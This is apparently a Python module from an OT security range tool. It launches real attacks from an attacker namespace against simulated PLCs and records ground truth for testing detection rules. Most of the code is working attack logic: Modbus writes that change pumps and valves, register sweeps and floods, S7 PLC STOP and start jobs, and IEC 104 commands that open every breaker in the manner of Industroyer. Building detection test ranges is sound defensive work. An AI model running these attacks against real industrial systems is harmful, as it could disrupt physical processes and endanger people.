"""Drill attacks executed for real from the range's attacker namespace, with ground truth.

Each attack opens real connections from the attacker host (its sockets are created inside the
attacker's namespace, :func:`.netns.netns`) to a PLC of the range and does what the tools of the
trade do; the :class:`~otshield.sim.scenario.GroundTruth` it returns carries wall-clock times
(the capture's kernel time stamps are wall clock too), the attacker's and the target's
addresses, and the ATT&CK for ICS techniques a fitting alert names. Frame numbers are 0: a live
capture has no file to count in.

=================  ======================================================  ==================
attack             what it does                                            techniques
=================  ======================================================  ==================
modbus-write       switches a pump to manual and flips its command (or     T0855 T0836 T0831
                   opens a valve) with function 6: the process changes
modbus-sweep       unit ids 1-16 (most answer with an exception) then      T0846 T0861 T0888
                   120 single-register reads walking the register map
modbus-flood       about 600 reads within ~1.5 s over four connections     T0814
s7-stop            S7comm PLC STOP (python-snap7 client ``plc_stop``);     T0881 T0858 T0816
                   the controller's pumps stop in the process
s7-start           S7comm PLC hot start: the controller runs again         T0858
iec104-            STARTDT and a station interrogation of the RTU (c104    T0846 T0848 T0801
interrogation      client): a rogue controlling station reads every point
iec104-command     single commands OFF to every command point of the RTU   T0855 T0831 T0806
                   (breakers), as Industroyer did
=================  ======================================================  ==================
"""

from __future__ import annotations

import contextlib
import logging
import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from otshield.errors import ConfigError
from otshield.sim.range.netns import netns
from otshield.sim.range.plan import PlcSpec, PointSpec, RangeHost, RangePlan
from otshield.sim.range.services import (
    IEC104_PORT,
    MODBUS_PORT,
    S7_PORT,
    c104_callback,
    from_register,
)
from otshield.sim.scenario import GroundTruth

if TYPE_CHECKING:
    import c104

__all__ = ["ATTACKS", "AttackContext", "AttackResult", "LiveAttack", "run_attack", "targets"]


@dataclass(slots=True)
class AttackContext:
    """Where an attack runs: the plan and the attacker's namespace."""

    plan: RangePlan
    attacker_ns: str
    scenario: str = ""

    @property
    def attacker(self) -> RangeHost:
        return self.plan.host(self.plan.attacker)


@dataclass(slots=True)
class AttackResult:
    truth: GroundTruth
    detail: str
    """What happened, in words (values before and after, answers counted)."""
    effects: dict[str, float] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class LiveAttack:
    name: str
    title: str
    protocol: str
    techniques: tuple[str, ...]
    rule: str
    description: str
    body: Callable[[AttackContext, PlcSpec, RangeHost], tuple[str, dict[str, float]]]
    keywords: tuple[str, ...] = ()
    """Words of scenario stage names this attack plays (ties between attacks sharing as many
    techniques with a stage go to the one whose keyword the stage's name contains)."""


# -- Modbus helpers (raw MBAP: an attacker's script, not a well-behaved master) --------------------


class _Mbap:
    """A Modbus/TCP connection speaking raw MBAP frames, one request at a time."""

    def __init__(self, ip: str, timeout: float = 2.0) -> None:
        self.sock = socket.create_connection((ip, MODBUS_PORT), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tid = 0

    def request(self, unit: int, pdu: bytes) -> bytes | None:
        """Send one request; the response PDU, or None when the device stays silent."""
        self.tid = (self.tid + 1) & 0xFFFF
        self.sock.sendall(struct.pack(">HHHB", self.tid, 0, len(pdu) + 1, unit) + pdu)
        try:
            head = self._exact(7)
            length = struct.unpack(">H", head[4:6])[0]
            return self._exact(length - 1)
        except TimeoutError:
            return None

    def _exact(self, n: int) -> bytes:
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("the PLC closed the connection")
            buf += chunk
        return buf

    def read(self, unit: int, address: int, count: int = 1) -> list[int] | None:
        resp = self.request(unit, struct.pack(">BHH", 3, address, count))
        if resp is None or resp[0] & 0x80:
            return None
        return list(struct.unpack(f">{resp[1] // 2}H", resp[2:2 + resp[1]]))

    def write(self, unit: int, address: int, value: int) -> bool:
        resp = self.request(unit, struct.pack(">BHH", 6, address, value & 0xFFFF))
        return resp is not None and not resp[0] & 0x80

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _point(plc: PlcSpec, tag: str) -> PointSpec | None:
    """The writable-space (holding register) point of ``tag``."""
    for p in plc.points:
        if p.tag == tag and p.space == "holding":
            return p
    return None


def _modbus_write(ctx: AttackContext, plc: PlcSpec, target: RangeHost
                  ) -> tuple[str, dict[str, float]]:
    unit = plc.unit_ids[0]
    pumps = [p.tag.rpartition(".")[0] for p in plc.points
             if p.tag.endswith(".command") and p.writable and p.space == "holding"]
    valves = [p.tag.rpartition(".")[0] for p in plc.points
              if p.tag.endswith(".position") and p.writable and p.space == "holding"]
    conn = _Mbap(target.ip)
    try:
        if pumps:
            pump = pumps[0]
            run_p, auto_p, cmd_p = (_point(plc, f"{pump}.{a}")
                                    for a in ("running", "auto", "command"))
            if run_p is None or auto_p is None or cmd_p is None:
                raise ConfigError(f"{target.name}: pump {pump} lacks running/auto/command points")
            before = conn.read(unit, run_p.address)
            was = bool(before and before[0])
            ok = (conn.write(unit, auto_p.address, 0)
                  and conn.write(unit, cmd_p.address, 0 if was else 1))
            time.sleep(0.2)
            after = conn.read(unit, run_p.address)
            now = bool(after and after[0])
            return (f"{target.name}: {pump} put in manual and commanded "
                    f"{'off' if was else 'on'} (writes {'accepted' if ok else 'refused'}); "
                    f"running {int(was)} -> {int(now)}",
                    {f"{pump}.running.before": float(was), f"{pump}.running.after": float(now)})
        if valves:
            pos = _point(plc, f"{valves[0]}.position")
            assert pos is not None
            before_raw = conn.read(unit, pos.address) or [0]
            old = from_register(before_raw[0], pos.scale)
            new = 100.0 if old < 50 else 0.0
            ok = conn.write(unit, pos.address, round(new * pos.scale))
            after_raw = conn.read(unit, pos.address) or [0]
            now_pos = from_register(after_raw[0], pos.scale)
            return (f"{target.name}: {valves[0]} position {old:g}% -> {now_pos:g}% "
                    f"(write {'accepted' if ok else 'refused'})",
                    {f"{valves[0]}.position.before": old, f"{valves[0]}.position.after": now_pos})
        raise ConfigError(f"{target.name} has no writable pump or valve point to attack")
    finally:
        conn.close()


def _modbus_sweep(ctx: AttackContext, plc: PlcSpec, target: RangeHost
                  ) -> tuple[str, dict[str, float]]:
    conn = _Mbap(target.ip, timeout=0.5)
    answered = refused = silent = 0
    try:
        for unit in range(1, 17):
            resp = conn.request(unit, struct.pack(">BHH", 3, 0, 1))
            if resp is None:
                silent += 1
            elif resp[0] & 0x80:
                refused += 1
            else:
                answered += 1
        good = plc.unit_ids[0]
        readable = 0
        for address in range(120):
            if conn.read(good, address) is not None:
                readable += 1
    finally:
        conn.close()
    return (f"{target.name}: unit ids 1-16: {answered} answered, {refused} exceptions, "
            f"{silent} silent; 120 registers probed, {readable} readable",
            {"units_answered": answered, "registers_readable": readable})


def _modbus_flood(ctx: AttackContext, plc: PlcSpec, target: RangeHost
                  ) -> tuple[str, dict[str, float]]:
    unit = plc.unit_ids[0]
    per_conn, conns = 150, 4
    done = [0] * conns
    budget = time.monotonic() + 5.0  # bounded in count and time, whatever the PLC does

    def hammer(i: int, sock_conn: _Mbap) -> None:
        try:
            for _ in range(per_conn):
                if time.monotonic() > budget:
                    break
                sock_conn.request(unit, struct.pack(">BHH", 3, 0, 10))
                done[i] += 1
        except OSError:
            pass
        finally:
            sock_conn.close()

    links = [_Mbap(target.ip, timeout=0.5) for _ in range(conns)]  # sockets made in this netns
    started = time.monotonic()
    threads = [threading.Thread(target=hammer, args=(i, c)) for i, c in enumerate(links)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    took = time.monotonic() - started
    total = sum(done)
    return (f"{target.name}: {total} read requests in {took:.2f} s over {conns} connections",
            {"requests": total, "seconds": took})


def _s7_stop(ctx: AttackContext, plc: PlcSpec, target: RangeHost
             ) -> tuple[str, dict[str, float]]:
    import snap7

    logging.getLogger("snap7").setLevel(logging.CRITICAL)
    client = snap7.client.Client()
    try:
        client.connect(target.ip, 0, 1, S7_PORT)
        client.plc_stop()  # raises when the PLC refuses the job
    finally:
        with contextlib.suppress(Exception):
            client.disconnect()
    # the CPU state a client can read back (SZL 0x0424) is static in the snap7 server; the
    # range's status shows the effect on the process (the controller's pumps stop)
    return f"{target.name}: PLC STOP job acknowledged", {"stop_acknowledged": 1.0}


def _s7_start(ctx: AttackContext, plc: PlcSpec, target: RangeHost
              ) -> tuple[str, dict[str, float]]:
    import snap7

    logging.getLogger("snap7").setLevel(logging.CRITICAL)
    client = snap7.client.Client()
    try:
        client.connect(target.ip, 0, 1, S7_PORT)
        client.plc_hot_start()
    finally:
        with contextlib.suppress(Exception):
            client.disconnect()
    return f"{target.name}: PLC hot start (RUN) job acknowledged", {"start_acknowledged": 1.0}


def _iec104_link(target: RangeHost, plc: PlcSpec
                 ) -> tuple[c104.Client, c104.Connection, c104.Station | None]:
    """A c104 client connected to the RTU (the attacker's controlling station)."""
    import c104

    client = c104.Client(tick_rate_ms=50, command_timeout_ms=5000)
    conn = client.add_connection(ip=target.ip, port=IEC104_PORT, init=c104.Init.NONE)
    if conn is None:
        raise ConfigError("c104 refused the connection parameters")
    station = conn.add_station(common_address=plc.unit_ids[0])
    client.start()
    deadline = time.monotonic() + 5
    while not conn.is_connected and time.monotonic() < deadline:
        time.sleep(0.02)
    if not conn.is_connected:
        client.stop()
        raise ConnectionError(f"no IEC 104 link to {target.ip}:2404")
    conn.unmute()  # STARTDT act, as any controlling station (and Industroyer) starts
    return client, conn, station


def _iec104_interrogation(ctx: AttackContext, plc: PlcSpec, target: RangeHost
                          ) -> tuple[str, dict[str, float]]:
    import c104

    client, conn, station = _iec104_link(target, plc)
    reported: set[int] = set()

    def on_value(point: c104.Point, previous_info: c104.Information,
                 message: c104.IncomingMessage) -> c104.ResponseState:
        reported.add(point.io_address)
        return c104.ResponseState.SUCCESS

    c104_callback(on_value)
    try:
        for p in plc.points:
            if p.space in ("float", "single") and station is not None:
                point = station.add_point(io_address=p.address, type=c104.Type.M_ME_NC_1
                                          if p.space == "float" else c104.Type.M_SP_NA_1)
                if point is not None:
                    point.on_receive(callable=on_value)
        expected = sum(1 for p in plc.points if p.space in ("float", "single"))
        ok = conn.interrogation(common_address=plc.unit_ids[0], wait_for_response=True)
        deadline = time.monotonic() + 2.0  # the replies follow the confirmation
        while len(reported) < expected and time.monotonic() < deadline:
            time.sleep(0.02)
    finally:
        client.stop()
    return (f"{target.name}: STARTDT and station interrogation "
            f"({'confirmed' if ok else 'not confirmed'}); {len(reported)} points reported",
            {"points": float(len(reported))})


def _iec104_command(ctx: AttackContext, plc: PlcSpec, target: RangeHost
                    ) -> tuple[str, dict[str, float]]:
    import c104

    commands = [p.address for p in plc.points if p.space == "command"]
    if not commands:
        raise ConfigError(f"{target.name} has no command points to operate")
    client, _conn, station = _iec104_link(target, plc)
    confirmed = 0
    try:
        if station is None:
            raise ConfigError("c104 refused the common address")
        for ioa in commands:  # open every breaker: single command OFF, direct execute
            point = station.add_point(io_address=ioa, type=c104.Type.C_SC_NA_1)
            if point is None:
                continue
            point.value = False
            if point.transmit(cause=c104.Cot.ACTIVATION):
                confirmed += 1
    finally:
        client.stop()
    return (f"{target.name}: single command OFF to IOA {', '.join(map(str, commands))}; "
            f"{confirmed} confirmed", {"commands": float(len(commands)),
                                       "confirmed": float(confirmed)})


ATTACKS: dict[str, LiveAttack] = {a.name: a for a in (
    LiveAttack(name="modbus-write", title="Unauthorised Modbus writes change the process",
               protocol="modbus", techniques=("T0855", "T0836", "T0831"),
               rule="ot.modbus.write_unauthorised",
               description="The attacker host writes a PLC's pump mode and command (or a "
               "valve position) with Modbus function 6; the process follows.",
               body=_modbus_write,
               keywords=("write", "setpoint", "pump", "valve", "inject", "manipulat")),
    LiveAttack(name="modbus-sweep", title="Modbus unit id and register sweep",
               protocol="modbus", techniques=("T0846", "T0861", "T0888"),
               rule="ot.modbus.unit_id_sweep",
               description="Unit ids 1-16, then 120 registers one by one, as scanners do.",
               body=_modbus_sweep, keywords=("sweep", "scan", "enum", "recon", "identif")),
    LiveAttack(name="modbus-flood", title="Modbus request flood", protocol="modbus",
               techniques=("T0814",), rule="ot.modbus.request_flood",
               description="About 600 read requests within a second or two.",
               body=_modbus_flood, keywords=("flood", "dos")),
    LiveAttack(name="s7-stop", title="S7 PLC put into STOP", protocol="s7",
               techniques=("T0881", "T0858", "T0816"), rule="ot.s7.cpu_stop",
               description="An S7comm PLC STOP job from the attacker host.", body=_s7_stop,
               keywords=("stop",)),
    LiveAttack(name="s7-start", title="S7 PLC put back into RUN", protocol="s7",
               techniques=("T0858",), rule="ot.s7.cpu_start",
               description="An S7comm PLC hot start (PI service P_PROGRAM) from the attacker "
               "host.", body=_s7_start, keywords=("start", "restart", "run")),
    LiveAttack(name="iec104-interrogation", title="IEC 104 link and station interrogation "
               "from a rogue controlling station", protocol="iec104",
               techniques=("T0846", "T0848", "T0801"), rule="ot.iec104.unknown_master",
               description="STARTDT and a general interrogation (C_IC_NA_1) of the RTU.",
               body=_iec104_interrogation, keywords=("interrogat", "startdt", "iec104")),
    LiveAttack(name="iec104-command", title="IEC 104 single commands open the breakers",
               protocol="iec104", techniques=("T0855", "T0831", "T0806"),
               rule="ot.iec104.command_unauthorised",
               description="C_SC_NA_1 OFF to every command point of the RTU, as Industroyer.",
               body=_iec104_command, keywords=("command", "breaker", "iec104")),
)}


def targets(name: str, plan: RangePlan) -> list[str]:
    """The PLCs attack ``name`` can be run against, in plan order."""
    attack = ATTACKS[name]
    out = []
    for p in plan.plcs:
        if p.protocol != attack.protocol:
            continue
        if name == "modbus-write" and not any(
                pt.writable and pt.space == "holding"
                and pt.tag.endswith((".command", ".position")) for pt in p.points):
            continue
        if name == "iec104-command" and not any(pt.space == "command" for pt in p.points):
            continue
        out.append(p.host)
    return out


def run_attack(name: str, ctx: AttackContext, target: str | None = None) -> AttackResult:
    """Run attack ``name`` from the attacker's namespace against ``target`` (a PLC host name;
    default: the first PLC of the attack's protocol)."""
    attack = ATTACKS.get(name)
    if attack is None:
        raise ConfigError(f"unknown live attack {name!r} (known: {', '.join(ATTACKS)})")
    plan = ctx.plan
    if target is None:
        fit = targets(name, plan)
        if not fit:
            raise ConfigError(f"attack {name} needs a {attack.protocol} PLC it can act on; "
                              "the range has none")
        plc = plan.plc(fit[0])
    else:
        plc = plan.plc(target)
        if plc.protocol != attack.protocol:
            raise ConfigError(f"attack {name} speaks {attack.protocol}, but {target} is a "
                              f"{plc.protocol} PLC")
    host = plan.host(plc.host)
    start = time.time()
    with netns(ctx.attacker_ns):  # every socket of the attack belongs to the attacker host
        detail, effects = attack.body(ctx, plc, host)
    end = time.time()
    truth = GroundTruth(stage=attack.name, first_frame=0, last_frame=0, ts=start,
                        src=ctx.attacker.ip, dst=host.ip, techniques=attack.techniques,
                        rule=attack.rule, description=detail, scenario=ctx.scenario,
                        end_ts=end, title=attack.title)
    return AttackResult(truth=truth, detail=detail, effects=effects)
